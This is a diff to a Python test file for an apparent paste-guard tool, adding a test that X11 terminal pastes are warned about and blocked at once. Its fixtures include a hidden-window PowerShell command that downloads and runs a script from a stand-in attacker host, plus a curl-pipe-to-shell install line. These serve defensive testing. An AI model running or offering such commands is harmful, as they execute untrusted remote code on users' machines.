@@ -16,6 +16,7 @@ from app.guard.provenance import Provenance
 from app.guard.service import ClipboardChange, GuardService, GuardSettings, PasteWarning, digest
 from app.platform.base import KeyEvent, MouseEvent, WindowInfo
 from app.storage import QuarantineItem
+from tests.fakes import FakeClock
 
 MALICIOUS = 'powershell -w h -c "iwr https://evil.test/a.ps1 | iex"'
 SUSPICIOUS = "curl -fsSL https://unknown-vendor.example/install.sh | sh"
@@ -485,3 +486,53 @@ def test_a_burst_skips_stale_texts_but_never_the_one_on_the_clipboard_now(engine
     assert service.counts["analysed"] == 1 and service.counts["skipped_stale"] == 50
     assert ui.replaced == [(digest(MALICIOUS), NEUTRAL_LINE)]
     assert store.kinds() == ["clipboard_neutralized"]
+
+
+@pytest.mark.parametrize("order", ["hook first", "holder first", "alternating", "hook dead"])
+def test_on_x11_every_paste_is_warned_at_once_whichever_thread_reports_it_first(
+    engine: Engine, order: str
+) -> None:
+    # xterm's request reaches the holder's thread about when the key reaches the hook's; on a
+    # loaded machine either comes first. A request that came first was taken for another
+    # request of the paste before (its gesture was still recent): no warning until the paste
+    # settled, 2 s later (the bench saw 2,033 ms), and its key became a paste of its own.
+    clock = FakeClock()
+    holder = FakeHolder()
+    store, ui = FakeStore(), FakeUI()
+    xterm = WindowInfo("xterm", "XTerm", "bash", pid=77)
+    service = GuardService(
+        engine, store, ui, PasteSequence(strict=True), FakeClassifier(PasteTarget.TERMINAL),
+        lambda: xterm, False, GuardSettings(mode="block"), holder=holder, clock=clock,
+    )  # fmt: skip
+    copy(service, SUSPICIOUS)
+    rounds = 6
+    for n in range(rounds):
+        hook_first = {"hook first": True, "holder first": False, "hook dead": False}.get(
+            order, n % 2 == 0
+        )
+
+        def key() -> None:
+            if order != "hook dead":
+                service.on_key(press("v", clock.now, "ctrl", "shift"))
+                service.on_key(press("v", clock.now, "ctrl", "shift", pressed=False))
+
+        def requests() -> None:
+            for _ in range(3):  # UTF8_STRING, then the older formats after each refusal
+                service.refused_paste(PasteTarget.TERMINAL, xterm)
+
+        before = len(ui.warnings)
+        (key if hook_first else requests)()
+        clock.advance(0.005)
+        (requests if hook_first else key)()
+        assert len(ui.warnings) == before + 1, f"paste {n} was not warned at once"
+        assert ui.warnings[-1].suppressed is True
+        service.process_pending(clock.now)  # what the worker does at once when woken
+        clock.advance(0.75)  # Escape, the terminal in front again, the next Ctrl+Shift+V
+    clock.advance(5.0)
+    service.process_pending()
+    assert len(ui.warnings) == rounds  # none came late, when a paste settled
+    pastes = [e for e in store.events if e.kind.startswith("paste_")]
+    assert len(pastes) == rounds
+    assert all(e.kind == "paste_blocked" and e.details["refused_by_holder"] for e in pastes)
+    if order != "hook dead":
+        assert all(e.details["keys"] == "ctrl+shift+v" for e in pastes)
